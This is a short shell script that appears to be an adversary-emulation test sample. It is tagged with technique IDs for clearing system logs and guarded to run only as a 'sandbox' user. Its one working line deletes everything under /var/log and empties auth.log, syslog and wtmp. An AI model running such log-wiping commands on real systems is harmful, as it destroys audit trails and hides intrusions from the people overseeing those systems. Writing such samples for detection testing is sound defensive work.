#!/bin/sh
# technique: T1685.006 T1070.002
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

rm -rf /var/log/*; cat /dev/null > /var/log/auth.log; truncate -s 0 /var/log/syslog; : > /var/log/wtmp
